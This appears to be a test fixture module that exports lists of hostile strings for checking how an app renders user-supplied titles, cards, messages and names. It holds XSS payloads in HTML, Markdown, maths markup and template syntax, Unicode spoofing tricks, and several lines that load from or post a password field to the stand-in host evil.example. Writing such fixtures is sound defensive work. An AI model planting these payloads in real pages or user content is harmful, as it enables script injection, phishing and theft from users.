/**
 * What somebody might write into a title, a card, a message or a name to have it run, load or lead elsewhere. Were one to
 * run, it would raise a dialog or set `__xss`; were one to load, it would ask evil.example.
 */
const html = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<ScRiPt>top.__xss=1</sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/x.png">',
  '<img srcset="https://evil.example/x.png 1x" onload=alert(1)>',
  '"><img src=x onerror="top.__xss=1">',
  '" autofocus onfocus="alert(1)" x="',
  "' onmouseover='alert(1)",
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example/x)}</style>',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  '<button formaction="javascript:alert(1)">ok</button>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<p id="location" name="documentElement">x</p>',
];

const markdown = [
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example)',
  '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
  '![x](https://evil.example/x.png)',
  '![x](x" onerror="alert(1))',
  '![x](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  '[x]: javascript:alert(1)\n[x]',
  '```"><script>alert(1)</script>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| x |',
];

const maths = [
  '$\\href{javascript:alert(1)}{x}$',
  '$\\url{javascript:alert(1)}$',
  '$\\includegraphics[height=1em]{https://evil.example/x.png}$',
  '$\\htmlData{x=1" onmouseover="alert(1)}{x}$',
  '$\\htmlStyle{background:url(https://evil.example)}{x}$',
  '$\\htmlId{app-root}{x}$',
  '$\\text{<img src=x onerror=alert(1)>}$',
  '$\\def\\x{\\x\\x}\\x$',
  '$$<svg onload=alert(1)>$$',
];

const templates = [
  "{{constructor.constructor('alert(1)')()}}",
  '{{ $on.constructor("top.__xss=1")() }}',
  '{{ teacher }} {{ cards }} {{ title }}',
  '${alert(1)} #{alert(1)} <%= alert(1) %>',
  '[innerHTML]="x" (click)="alert(1)" @if (true) { x }',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
];

const signs = [
  'a\u202egnp.exe\u202c b',
  '\u2066\u2067dehcaorped\u2069\u2069 x',
  'z\u200be\u200br\u200do\ufeff width',
  '<\u200bscript>alert(1)</\u200bscript>',
  '＜script＞alert(1)＜/script＞',
  'ʺ＞＜img src=x onerror=alert(1)＞',
  `Z${'\u0351\u034b\u0310'.repeat(12)}algo`,
  '🏳️‍🌈 <b>é</b>',
];

/** Read as Markdown, these say themselves: nothing in them is a sign of it. */
export const plainOnCards = html.filter((text) => !/https?:|[\\*_`]/.test(text));
export const hostileTexts = [...html, ...markdown, ...maths, ...templates, ...signs];
/** Short enough for a name. */
export const hostileNames = hostileTexts.filter(
  (text) => text.length <= 80 && !text.includes('\n'),
);
